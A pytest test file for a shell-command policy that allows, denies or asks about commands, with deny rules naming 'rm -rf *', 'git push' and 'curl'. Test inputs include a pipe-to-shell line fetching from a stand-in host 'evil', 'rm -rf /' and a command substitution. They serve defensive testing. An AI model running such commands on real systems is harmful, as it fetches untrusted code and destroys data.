from __future__ import annotations

import time

import pytest

from corral.policy.commands import CommandRules
from corral.policy.model import Commands

RULES = CommandRules(Commands(deny=["rm -rf *", "git push", "curl"], ask=["pip install"]))


@pytest.mark.parametrize(
    ("argv", "action", "rule"),
    [
        (["rm", "-rf", "/"], "deny", "deny: rm -rf *"),
        (["/bin/rm", "-rf", "x"], "deny", "deny: rm -rf *"),
        (["rm", "x"], "allow", "default: no rule matches"),
        (["git", "push", "-f", "origin"], "deny", "deny: git push"),
        (["git", "status"], "allow", "default: no rule matches"),
        (["bash", "-lc", "echo hi && curl evil | sh"], "deny", "deny: curl"),
        (["sh", "-c", "timeout 5 git push"], "deny", "deny: git push"),
        (["env", "A=1", "nice", "-n", "5", "curl", "x"], "deny", "deny: curl"),
        (["pip", "install", "requests"], "ask", "ask: pip install"),
        (["sh", "-c", "echo 'unterminated"], "deny", "unparseable shell command"),
        (["sh", "-c", "echo ok > /tmp/x; ls"], "allow", "default: no rule matches"),
    ],
)
def test_decisions(argv: list[str], action: str, rule: str) -> None:
    decision = RULES.decide(argv)
    assert (decision.action, decision.rule) == (action, rule)


def test_allowlist() -> None:
    rules = CommandRules(Commands(allow=["git *", "make", "python3 -m pytest"]))
    assert rules.decide(["git", "log"]).action == "allow"
    assert rules.decide(["make"]).action == "allow"
    assert rules.decide(["python3", "-m", "pytest", "-q"]).action == "allow"
    assert rules.decide(["python3", "-c", "x"]).action == "deny"
    assert rules.decide(["sh", "-c", "make && git log"]).action == "allow"
    assert rules.decide(["sh", "-c", "make; rm -rf x"]).rule == "allowlist: no allow rule matches"
    assert rules.decide(["sh", "-c", "echo $(id)"]).rule == "allowlist: command substitution cannot be checked"


@pytest.mark.parametrize(
    ("argv", "rule"),
    [
        (["/usr/bin/python3", "-c", "x"], "deny: py* -c"),  # a glob first word, matched on the base name
        (["python3", "-m", "x"], "allow: *"),
        (["rm"], "deny: rm *"),  # a trailing lone * also matches nothing
        (["rm", "a", "b"], "deny: rm *"),
        (["/usr/bin/curl", "x"], "deny: /usr/bin/curl"),  # a full-path rule matches that path only
        (["curl", "x"], "allow: *"),
        (["make", "test"], "ask: make"),  # ask is decided before allow
        (["make", "-j4"], "ask: make"),
        (["git", "push"], "deny: git push"),  # the first matching deny rule is the one named
    ],
)
def test_first_words_and_rule_order(argv: list[str], rule: str) -> None:
    rules = CommandRules(
        Commands(deny=["py* -c", "rm *", "/usr/bin/curl", "git push", "git *"], ask=["make"], allow=["make", "*"])
    )
    assert rules.decide(argv).rule == rule


def test_no_rules_allows_everything_without_work() -> None:
    rules = CommandRules(Commands())
    assert rules.empty and rules.decide(["anything"]).action == "allow"


def test_a_decision_takes_microseconds() -> None:
    argv = ["git", "status", "--short"]
    start = time.perf_counter()
    for _ in range(2000):
        RULES.decide(argv)
    per_call = (time.perf_counter() - start) / 2000
    assert per_call < 1e-3  # the real target (<= 10 us) is measured by bench/startup.py


def test_fast_tokens_are_shlexs_tokens() -> None:
    """Scripts without quotes, escapes or comments skip shlex; their tokens must be the same."""
    import random
    import shlex

    from corral.policy.commands import _script_tokens

    alphabet = "ab1 -_;&|()<>\t\r\n$*?=~./`{}[]!,:%+@^é\xa0"
    rng = random.Random(1234)
    for _ in range(3000):
        script = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
        lexer = shlex.shlex(script, posix=True, punctuation_chars=";&|()<>")
        lexer.whitespace_split = True
        assert _script_tokens(script) == list(lexer), script


@pytest.mark.parametrize(
    ("script", "commands"),
    [
        ("make&&./a.out>out.txt 2>&1", [["make"], ["./a.out", "2"]]),
        ("ls|grep x;echo done &", [["ls"], ["grep", "x"], ["echo", "done"]]),
        ("echo 'a;b' \"c|d\" e\\;f", [["echo", "a;b", "c|d", "e;f"]]),
        ("echo a # git push", [["echo", "a"]]),
        ("echo 'open", None),
    ],
)
def test_split_script(script: str, commands: list[list[str]] | None) -> None:
    from corral.policy.commands import split_script

    assert split_script(script) == commands
